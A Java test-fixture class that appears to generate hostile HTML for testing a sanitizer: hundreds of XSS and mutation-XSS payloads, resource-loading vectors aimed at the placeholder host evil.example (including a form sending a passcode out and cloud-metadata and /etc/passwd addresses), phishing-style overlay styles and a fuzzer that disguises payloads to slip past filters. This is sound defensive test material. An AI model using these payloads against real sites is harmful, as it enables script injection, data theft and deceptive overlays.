package org.sealpost.testing;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.function.BiFunction;
import java.util.stream.Stream;

/// HTML that tries to act, to reach out or to get out of its frame, of our own making (threats 26
/// to 29). Whatever it would call is [#SCRIPT], and whatever it would fetch is on [#HOST].
public final class HostileHtml {
  public static final String HOST = "evil.example";
  public static final String SCRIPT = "alert(1)";

  private static final List<String> ACTING =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<script",
          "<script>alert(1)",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><style><img src=x onerror=alert(1)></style></svg>",
          "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"></svg>",
          "<svg><image href=//evil.example/x></svg>",
          "<svg><filter><feImage href=//evil.example/x></filter></svg>",
          "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
          "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
          "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
          "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
          "<math href=javascript:alert(1)>x</math>",
          "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<p title=\"</p><img src=x onerror=alert(1)>\">",
          "<template><img src=x onerror=alert(1)></template>",
          "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
          "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
          "<title><img src=x onerror=alert(1)></title>",
          "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
          "<plaintext><script>alert(1)</script>",
          "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
          "<style>@import '//evil.example/x.css';</style>",
          "<style>*{background:url(//evil.example/x)}</style>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<link rel=prefetch href=//evil.example/x><link rel=dns-prefetch href=//x.evil.example>",
          "<meta http-equiv=refresh content='0;url=//evil.example'>",
          "<meta http-equiv=Set-Cookie content=a=b>",
          "<base href=//evil.example/><a href=x>x</a>",
          "<form action=//evil.example><input name=passcode><button formaction=//evil.example>ok</button></form>",
          "<input type=image src=//evil.example/x>",
          "<button formaction=javascript:alert(1)>x</button>",
          "<iframe src=//evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
          "<frameset><frame src=//evil.example></frameset>",
          "<object data=//evil.example/x.swf></object><embed src=//evil.example/x>",
          "<applet code=x archive=//evil.example/x.jar></applet>",
          "<img src=//evil.example/pixel.gif>",
          "<img src=http://169.254.169.254/latest/meta-data/>",
          "<img src=x srcset='//evil.example/x 1x, //evil.example/y 2x'>",
          "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
          "<img src='data:text/html;base64,PHNjcmlwdD4='>",
          "<img src=\"cid:none\" onerror=alert(1)>",
          "<img src='javascript:alert(1)'>",
          "<img lowsrc=//evil.example/x dynsrc=//evil.example/y longdesc=//evil.example/z>",
          "<img src=file:///etc/passwd><img src='\\\\evil.example\\share\\x'>",
          "<picture><source srcset=//evil.example/x><img src=//evil.example/x></picture>",
          "<video src=//evil.example/x poster=//evil.example/y><track src=//evil.example/z></video>",
          "<audio src=//evil.example/x autoplay></audio>",
          "<bgsound src=//evil.example/x>",
          "<body background=//evil.example/x onload=alert(1)>",
          "<table background=//evil.example/x><td background=//evil.example/x>x</table>",
          "<a href=javascript:alert(1)>x</a>",
          "<a href=' &#14; javascript:alert(1)'>x</a>",
          "<a href='java\nscript:alert(1)'>x</a>",
          "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
          "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
          "<a href='javascript\u0000:alert(1)'>x</a>",
          "<a href='\u0001javascript:alert(1)'>x</a>",
          "<a href='java\u00adscript:alert(1)'>x</a>",
          "<a href=vbscript:msgbox(1)>x</a>",
          "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
          "<a href=' data:text/html,<script>alert(1)</script>'>x</a>",
          "<a href='da\tta:text/html,x'>x</a>",
          "<a href='DATA:text/html,x'>x</a>",
          "<a href='blob:https://x/y'>x</a><a href='file:///x'>x</a><a href='cid:logo@contoso.example'>x</a><a href='ms-msdt:/id'>x</a>",
          "<a href=https://evil.example ping=//evil.example/p target=_top download>x</a>",
          "<a href=x onclick=alert(1) onmouseover=alert(1) style=x:expression(alert(1))>x</a>",
          "<p onclick=alert(1) ONCLICK=alert(1) on\nclick=alert(1)>x</p>",
          "<p style='background:url(//evil.example/x)'>x</p>",
          "<p style='background-image:url(&quot;//evil.example/x&quot;)'>x</p>",
          "<p style='background:u\\72l(//evil.example/x)'>x</p>",
          "<p style='background:image-set(\"//evil.example/x\" 1x)'>x</p>",
          "<p style='list-style:url(//evil.example/x);cursor:url(//evil.example/x),auto'>x</p>",
          "<p style='content:url(//evil.example/x)'>x</p>",
          "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</p>",
          "<p style='pos\\69tion:fixed'>x</p><p style='POSITION : absolute'>x</p>",
          "<p style='position/**/:fixed'>x</p>",
          "<p style='width:expression(alert(1))'>x</p>",
          "<p style='behavior:url(x.htc);-moz-binding:url(x.xml#y)'>x</p>",
          "<p style='@import \"//evil.example/x\"'>x</p>",
          "<p style='color:red;}</style><script>alert(1)</script>'>x</p>",
          "<p style='font-family:\"x;background:url(//evil.example)\"'>x</p>",
          "<p style=\"font-family:'</p><img src=x onerror=alert(1)>'\">x</p>",
          "<p style='--x:url(//evil.example);background:var(--x)'>x</p>",
          "<p style='filter:url(//evil.example/x#y);mask:url(//evil.example/x)'>x</p>",
          "<font face='x\" onmouseover=\"alert(1)'>x</font>",
          "<font color='url(//evil.example)' size='expression(1)'>x</font>",
          "<img alt='`><script>alert(1)</script>'>",
          "<img alt=\"x` `<script>alert(1)</script>\"` `>",
          "<!--[if IE]><script>alert(1)</script><![endif]-->",
          "<!-- --!><script>alert(1)</script> -->",
          "<!--><script>alert(1)</script>-->",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<?xml-stylesheet href='javascript:alert(1)'?><?php x ?>",
          "<!DOCTYPE html [<!ENTITY x '<script>'>]><p>&x;</p>",
          "<img src='//evil.example/?",
          "<a href='https://evil.example/?leak=",
          "<p title='<script>",
          "<table><a href=javascript:alert(1)><tr><td><a href=javascript:alert(1)>x",
          "<b><p><i></b><script></i>alert(1)</script>",
          "<portal src=//evil.example></portal><fencedframe></fencedframe>",
          "<x-custom onclick=alert(1)>x</x-custom>",
          "<div id=app class=x name=y data-x=y contenteditable tabindex=1 accesskey=x autofocus>x</div>",
          "<details open ontoggle=alert(1)>x</details><dialog open>x</dialog>",
          "<marquee onstart=alert(1)>x</marquee>",
          "<isindex action=//evil.example><keygen>",
          "<col width='1' style='background:url(//evil.example/x)'>",
          "<td bgcolor='javascript:alert(1)' width='expression(1)'>",
          "<p dir='rtl\" onclick=\"x' lang='\"><script>'>x</p>",
          "\ufeff<script>alert(1)</script>",
          "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
          "\u0000<\u0000script>alert(1)</script>",
          "<\u017fcript>alert(1)</\u017fcript>",
          "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
          "<p>&amp;lt;script&amp;gt;</p>",
          "{{constructor.constructor('alert(1)')()}}",
          "<p>\u001b$B<script>alert(1)</script>\u001b(B</p>",
          "<a href='\u001b(Jjavascript:alert(1)'>x</a>",
          "<img src=`x` onerror=alert(1)>",
          "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
          "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
          "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
          "<math><mi><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
          "<svg><desc><template><script>alert(1)</script></template></desc></svg>",
          "<div><p id=\"<style><!--\"></p></div><!--</style><img src=x onerror=alert(1)>-->",
          "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
          "<input autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)></textarea>",
          "<input type=hidden popover onbeforetoggle=alert(1)><button popovertarget=x>x</button>",
          "<xss style='animation:x 1s' onanimationstart=alert(1)>x</xss>",
          "<body onpageshow=alert(1) onhashchange=alert(1) onscroll=alert(1)>x</body>",
          "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example/s\"]}]}</script>",
          "<script type=importmap>{}</script><script type=module>alert(1)</script>",
          "<div><template shadowrootmode=open><script>alert(1)</script><slot></slot></template></div>",
          "<a href='https://evil.example@contoso.example/'>contoso.example</a>",
          "<meta charset=utf-7><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>",
          "<meta charset=iso-2022-kr><p>\u000e<script>alert(1)</script>\u000f</p>");

  private static final List<String> REFERRING_ELEMENTS =
      List.of(
          "<img src=%s>",
          "<img srcset='%s 1x, %s 2x'>",
          "<img src=x lowsrc=%s>",
          "<img dynsrc=%s>",
          "<img longdesc=%s src=%s>",
          "<img src=x style=\"background:url(%s)\">",
          "<image src=%s>",
          "<picture><source srcset=%s><img></picture>",
          "<video src=%s autoplay></video>",
          "<video poster=%s></video>",
          "<video><source src=%s></video>",
          "<video><track default src=%s></video>",
          "<audio src=%s autoplay></audio>",
          "<audio><source src=%s></audio>",
          "<embed src=%s>",
          "<embed code=%s pluginspage=%s>",
          "<object data=%s></object>",
          "<object codebase=%s classid=x></object>",
          "<object archive=%s></object>",
          "<object><param name=movie value=%s></object>",
          "<applet code=%s></applet>",
          "<applet codebase=%s archive=%s></applet>",
          "<iframe src=%s></iframe>",
          "<iframe srcdoc=\"<img src=%s>\"></iframe>",
          "<iframe longdesc=%s></iframe>",
          "<frameset><frame src=%s></frameset>",
          "<meta http-equiv=refresh content='0;url=%s'>",
          "<meta http-equiv=refresh content='0,%s'>",
          "<meta http-equiv=Link content='<%s>; rel=stylesheet'>",
          "<meta http-equiv=Content-Security-Policy content='default-src none; report-uri %s'>",
          "<meta http-equiv=Content-Security-Policy-Report-Only content='img-src none; report-uri %s'><img src=x>",
          "<meta property=og:image content=%s>",
          "<base href=%s><img src=x>",
          "<base href=%s><a href=y>y</a>",
          "<body background=%s>",
          "<table background=%s><tr><td>x</table>",
          "<table><tr background=%s><td>x</table>",
          "<table><tr><td background=%s>x</table>",
          "<table><tr><th background=%s>x</table>",
          "<table><thead background=%s><tr><td>x</table>",
          "<input type=image src=%s>",
          "<input type=text dynsrc=%s>",
          "<button formaction=%s>x</button>",
          "<form action=%s><input type=submit autofocus></form>",
          "<form method=dialog action=%s><button>x</button></form>",
          "<isindex action=%s>",
          "<a href=x ping=%s>x</a>",
          "<map name=m><area href=x ping=%s></map><img usemap=#m src=%s>",
          "<q cite=%s>x</q>",
          "<blockquote cite=%s>x</blockquote>",
          "<ins cite=%s>x</ins><del cite=%s>x</del>",
          "<head profile=%s></head>",
          "<html manifest=%s>",
          "<script src=%s></script>",
          "<script type=module src=%s></script>",
          "<script>new Image().src='%s'</script>",
          "<bgsound src=%s>",
          "<layer src=%s></layer><ilayer src=%s></ilayer>",
          "<xml src=%s></xml>",
          "<portal src=%s></portal>",
          "<fencedframe src=%s></fencedframe>",
          "<model-viewer src=%s></model-viewer>",
          "<noscript><img src=%s></noscript>",
          "<noembed><img src=%s></noembed><noframes><img src=%s></noframes>",
          "<template><img src=%s></template>",
          "<textarea></textarea><img src=%s>",
          "<title></title><img src=%s>",
          "<plaintext><img src=%s>",
          "<xmp></xmp><img src=%s>",
          "<!--[if mso]><img src=%s><![endif]-->",
          "<!--[if !mso]><!--><img src=%s><!--<![endif]-->",
          "<![if !mso]><img src=%s><![endif]>",
          "<v:fill src=%s /><v:imagedata src=%s />",
          "<v:rect href=%s style='behavior:url(#default#VML)'></v:rect>",
          "<o:OLEObject href=%s></o:OLEObject>",
          "<?xml-stylesheet href='%s'?>",
          "<?import namespace=t implementation=%s>",
          "<!DOCTYPE html SYSTEM '%s'>",
          "<!DOCTYPE x [<!ENTITY e SYSTEM '%s'>]>&e;",
          "<svg><image href=%s /></svg>",
          "<svg><image xlink:href=%s /></svg>",
          "<svg><use href='%s#x' /></svg>",
          "<svg><use xlink:href='%s#x' /></svg>",
          "<svg><filter id=f><feImage href=%s /></filter><rect filter=url(#f) /></svg>",
          "<svg><filter><feImage xlink:href=%s /></filter></svg>",
          "<svg><script href=%s /></svg>",
          "<svg><script xlink:href=%s /></svg>",
          "<svg><a href=%s><text>x</text></a></svg>",
          "<svg><pattern href='%s#x' /></svg>",
          "<svg><linearGradient href='%s#x' /></svg>",
          "<svg><mpath href='%s#x' /></svg>",
          "<svg><textPath href='%s#x'>x</textPath></svg>",
          "<svg><tref xlink:href='%s#x' /></svg>",
          "<svg><cursor xlink:href=%s /></svg>",
          "<svg><font-face-uri xlink:href=%s /></svg>",
          "<svg><color-profile xlink:href=%s /></svg>",
          "<svg><animate xlink:href=#x attributeName=href values=%s /><image id=x /></svg>",
          "<svg><image><set attributeName=href to=%s /></image></svg>",
          "<svg><style>@import '%s';</style></svg>",
          "<svg><rect fill='url(%s#x)' stroke='url(%s#y)' /></svg>",
          "<svg><g mask='url(%s#x)' clip-path='url(%s#y)' marker-end='url(%s#z)'></g></svg>",
          "<svg><foreignObject><img src=%s></foreignObject></svg>",
          "<math href=%s>x</math>",
          "<math><mi xlink:href=%s>x</mi></math>",
          "<math><mglyph src=%s></math>",
          "<math><mtext><img src=%s></mtext></math>");

  private static final List<String> RELATIONS =
      List.of(
          "stylesheet",
          "'alternate stylesheet'",
          "icon",
          "'shortcut icon'",
          "apple-touch-icon",
          "mask-icon",
          "preload as=image",
          "preload as=style",
          "prefetch",
          "prerender",
          "dns-prefetch",
          "preconnect",
          "modulepreload",
          "manifest",
          "import",
          "next",
          "search",
          "pingback",
          "canonical",
          "subresource");

  private static final List<String> STYLES =
      List.of(
          "background:url(%s)",
          "background:url('%s')",
          "background-image:url(\"%s\")",
          "background-image:URL( %s )",
          "background:u\\72l(%s)",
          "background:ur/**/l(%s)",
          "background:url(%s",
          "background:red,url(%s)",
          "background-image:image-set('%s' 1x)",
          "background-image:-webkit-image-set(url(%s) 1x)",
          "background-image:cross-fade(url(%s),url(%s))",
          "background-image:image('%s')",
          "background-image:src('%s')",
          "list-style:url(%s)",
          "list-style-image:url(%s);display:list-item",
          "border-image:url(%s) 1",
          "border-image-source:url(%s);border:1px solid",
          "content:url(%s)",
          "cursor:url(%s),auto",
          "mask:url(%s)",
          "mask-image:url(%s)",
          "-webkit-mask-image:url(%s)",
          "-webkit-mask-box-image:url(%s)",
          "clip-path:url(%s#x)",
          "filter:url(%s#x)",
          "backdrop-filter:url(%s#x)",
          "shape-outside:url(%s);float:left",
          "offset-path:url(%s#x)",
          "-webkit-box-reflect:below 0 url(%s)",
          "fill:url(%s#x)",
          "behavior:url(%s)",
          "-moz-binding:url(%s#x)",
          "--x:url(%s);background:var(--x)",
          "background:\\000075rl(%s)",
          "font-family:'x',url(%s)",
          "cue:url(%s)",
          "color:red;}@import '%s';{");

  private static final List<String> SHEETS =
      List.of(
          "@import '%s';",
          "@import url(%s);",
          "@import url(%s) layer(x) supports(display:grid);",
          "@namespace '%s';",
          "@font-face{font-family:x;src:url(%s)}*{font-family:x}",
          "@document url(%s){}",
          "*{background:url(%s)}",
          "*::before{content:url(%s)}",
          "input[value^=a]{background:url(%s)}",
          "a:visited{background:url(%s)}",
          "@page{background:url(%s)}",
          "@keyframes x{from{background:url(%s)}}*{animation:x 1s}",
          "</style><img src=%s><style>",
          "<!--*{background:url(%s)}-->");

  private static final List<String> ADDRESSES =
      List.of(
          "//evil.example/a",
          "http://evil.example/a",
          "https://evil.example/a",
          "HTTPS://EVIL.EXAMPLE/a",
          "hTtP:\\\\evil.example\\a",
          "\\\\evil.example\\a",
          "/\\evil.example/a",
          "ht\ttps://evil.example/a",
          "https:evil.example/a",
          "https&colon;//evil.example/a",
          "&#104;ttps://evil.example/a",
          "http://2852039166/latest/meta-data/",
          "http://[::ffff:169.254.169.254]/",
          "ftp://evil.example/a",
          "file://evil.example/a",
          "smb://evil.example/a",
          "ws://evil.example/a",
          "feed:https://evil.example/a",
          "view-source:https://evil.example/a",
          "jar:https://evil.example/a!/",
          "mhtml:https://evil.example/a!x",
          "blob:https://evil.example/a",
          "filesystem:https://evil.example/a",
          "data:text/html,<img/src=//evil.example/a>",
          "data:image/svg+xml,<svg/xmlns='http://www.w3.org/2000/svg'><image/href='//evil.example/a'/></svg>",
          "javascript:fetch('//evil.example/a')",
          "cid:a@evil.example",
          "mid:a@evil.example");

  /// Around whatever else: what starts another way of parsing, or never ends.
  private static final List<String[]> AROUND =
      List.of(
          new String[] {"", ""},
          new String[] {"<table><tr><td>", "</td></tr></table>"},
          new String[] {"<table>", "</table>"},
          new String[] {"<svg>", "</svg>"},
          new String[] {"<svg><foreignObject>", ""},
          new String[] {"<svg><desc>", "</desc></svg>"},
          new String[] {"<svg><style>", "</style></svg>"},
          new String[] {"<math><mtext>", "</mtext></math>"},
          new String[] {"<math><annotation-xml encoding=\"text/html\">", ""},
          new String[] {"<math><mtext><table><mglyph><style><!--", "--></style>"},
          new String[] {"<select>", "</select>"},
          new String[] {"<option>", ""},
          new String[] {"<noscript>", "</noscript>"},
          new String[] {"<noembed>", "</noembed>"},
          new String[] {"<noframes>", "</noframes>"},
          new String[] {"<textarea>", "</textarea>"},
          new String[] {"<style>", "</style>"},
          new String[] {"<title>", "</title>"},
          new String[] {"<xmp>", "</xmp>"},
          new String[] {"<listing>", "</listing>"},
          new String[] {"<template>", "</template>"},
          new String[] {"<iframe>", "</iframe>"},
          new String[] {"<object>", "</object>"},
          new String[] {"<script>/*", "*/</script>"},
          new String[] {"<plaintext>", ""},
          new String[] {"<!--", "-->"},
          new String[] {"<!-- --!>", "-->"},
          new String[] {"<!-->", "-->"},
          new String[] {"<![CDATA[", "]]>"},
          new String[] {"<!--[if mso]>", "<![endif]-->"},
          new String[] {"<?php ", "?>"},
          new String[] {"<!", ">"},
          new String[] {"</", ">"},
          new String[] {"<p title=\"", "\">"},
          new String[] {"<p title='", "'>"},
          new String[] {"<p title=`", "`>"},
          new String[] {"<img alt=\"", ""},
          new String[] {"<a href=\"https://contoso.example/?", "\">x</a>"},
          new String[] {"<p style='", "'>x</p>"},
          new String[] {"<p style=\"font-family:'", "'\">x</p>"},
          new String[] {"<form><form>", "</form>"},
          new String[] {"<frameset>", "</frameset>"},
          new String[] {"<b><i><u><a href=https://x.example>", "</b></a>"},
          new String[] {"<table><caption><p>", ""},
          new String[] {"<ruby><rt>", ""},
          new String[] {"<p>".repeat(300), ""},
          new String[] {"<div>".repeat(260), ""},
          new String[] {"\u0000", "\u0000"},
          new String[] {"\ufeff", ""},
          new String[] {"</body></html>", ""});

  /// What hides a payload from whoever looks for it, and perhaps not from whoever parses it.
  private static final List<BiFunction<String, Random, String>> DISGUISES =
      List.of(
          (html, _) -> html,
          (html, _) -> html.toUpperCase(Locale.ROOT),
          (html, random) -> each(html, random, 2, HostileHtml::otherCase),
          (html, random) -> each(html, random, 12, letter -> "\u0000" + letter),
          (html, random) -> each(html, random, 15, letter -> "\n" + letter),
          (html, random) -> each(html, random, 15, letter -> "\t" + letter),
          (html, random) -> each(html, random, 6, letter -> "&#" + (int) letter + ";"),
          (html, random) -> each(html, random, 6, letter -> "&#x" + Integer.toHexString(letter)),
          (html, random) -> each(html, random, 6, letter -> "&#0000" + (int) letter),
          (html, random) -> each(html, random, 10, letter -> "&amp;#" + (int) letter + ";"),
          (html, random) -> each(html, random, 10, letter -> "<!-- -->" + letter),
          (html, random) -> each(html, random, 10, letter -> "</x>" + letter),
          (html, random) -> each(html, random, 10, letter -> "\u200b" + letter),
          (html, random) -> each(html, random, 10, letter -> "\\" + Integer.toHexString(letter)),
          (html, _) -> html.replace(' ', '/'),
          (html, _) -> html.replace(' ', '\f'),
          (html, _) -> html.replace('<', '\uff1c').replace('>', '\uff1e'),
          (html, _) -> html.replace("<", "<<").replace(">", ">>"),
          (html, _) -> html.replace("'", "").replace("\"", ""),
          (html, _) -> html.replace('"', '`').replace('\'', '`'),
          (html, _) -> html.replace("<", "+ADw-").replace(">", "+AD4-"),
          (html, _) -> "\u001b$B" + html + "\u001b(B",
          (html, _) -> html.replace(">", ""),
          (html, _) -> html.replace("=", " = "),
          (html, random) -> html.substring(random.nextInt(html.length())),
          (html, random) -> html.substring(0, 1 + random.nextInt(html.length())),
          (html, _) -> html + html,
          (html, _) -> html.replace("&", "&amp;").replace("<", "&lt;"));

  private HostileHtml() {}

  /// What acts, overlays or breaks parsers.
  public static List<String> acting() {
    return ACTING;
  }

  /// More than 200 ways to name an address that is fetched when the text is shown, or may be
  /// (threat 28).
  public static List<String> referring() {
    List<String> all = new ArrayList<>();
    REFERRING_ELEMENTS.forEach(element -> all.add(to(element)));
    RELATIONS.forEach(relation -> all.add(to("<link rel=" + relation + " href=%s>")));
    STYLES.forEach(
        style -> {
          all.add(to("<p style=\"" + style.replace("\"", "&quot;") + "\">x</p>"));
          all.add(to("<style>p{" + style + "}</style><p>x</p>"));
        });
    SHEETS.forEach(sheet -> all.add(to("<style>" + sheet + "</style>")));
    ADDRESSES.forEach(address -> all.add("<img src=\"" + address + "\">"));
    return all;
  }

  /// Boxes that leave their place, cover others or hide text (threat 29).
  public static List<String> overlaying() {
    return Stream.of(
            "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red",
            "position:absolute;top:-500px;left:-500px;background:red",
            "position:sticky;top:0",
            "margin:-500px;background:red",
            "margin-top:-100000px",
            "margin-left:-3000px;width:9000px;background:red",
            "margin-top:1e9px",
            "padding:99999px;background:red",
            "outline:9999px solid red",
            "box-shadow:0 0 0 9999px red",
            "text-shadow:0 -500px red",
            "border:9999px solid red",
            "transform:translate(-500px,-500px) scale(50);background:red",
            "translate:-500px -500px",
            "zoom:90",
            "float:left;margin:-500px",
            "display:none",
            "visibility:hidden",
            "opacity:0",
            "font-size:0",
            "font-size:1px",
            "font:0/0 a",
            "font-size:9999px",
            "line-height:0",
            "line-height:99999px",
            "letter-spacing:-1em",
            "word-spacing:-9px",
            "text-indent:-9999px",
            "height:0;overflow:hidden",
            "max-height:1px",
            "width:0;white-space:nowrap",
            "clip-path:inset(100%)",
            "clip:rect(0 0 0 0);position:absolute",
            "color:transparent;-webkit-text-fill-color:transparent",
            "direction:rtl;unicode-bidi:bidi-override",
            "writing-mode:vertical-rl",
            "inset:0;position:fixed;background:red",
            "animation:x 1s infinite;transition:all 9s",
            "contain:none;isolation:auto;mix-blend-mode:difference",
            "quotes:'a' 'b';content:'c'")
        .map(style -> "<p style=\"" + style + "\">Pay now</p>")
        .toList();
  }

  public static List<String> all() {
    return Stream.of(acting(), referring(), overlaying()).flatMap(List::stream).toList();
  }

  /// One of all of them or a mixture of two, in some surroundings and some disguise.
  public static String mutation(Random random) {
    List<String> all = all();
    String payload = all.get(random.nextInt(all.size()));
    if (random.nextInt(3) == 0) {
      payload += all.get(random.nextInt(all.size()));
    }
    for (int times = random.nextInt(3); times > 0; times--) {
      payload = DISGUISES.get(random.nextInt(DISGUISES.size())).apply(payload, random);
    }
    String[] around = AROUND.get(random.nextInt(AROUND.size()));
    String mutated = around[0] + payload + around[1];
    return random.nextInt(4) == 0
        ? DISGUISES.get(random.nextInt(DISGUISES.size())).apply(mutated, random)
        : mutated;
  }

  private static String to(String template) {
    return template.replace("%s", "https://" + HOST + "/a");
  }

  private static String otherCase(char letter) {
    return String.valueOf(
        Character.isUpperCase(letter)
            ? Character.toLowerCase(letter)
            : Character.toUpperCase(letter));
  }

  private static String each(String html, Random random, int oneOf, Disguise disguise) {
    StringBuilder disguised = new StringBuilder();
    for (int i = 0; i < html.length(); i++) {
      char letter = html.charAt(i);
      disguised.append(random.nextInt(oneOf) == 0 ? disguise.of(letter) : String.valueOf(letter));
    }
    return disguised.isEmpty() ? html : disguised.toString();
  }

  @FunctionalInterface
  private interface Disguise {
    String of(char letter);
  }
}
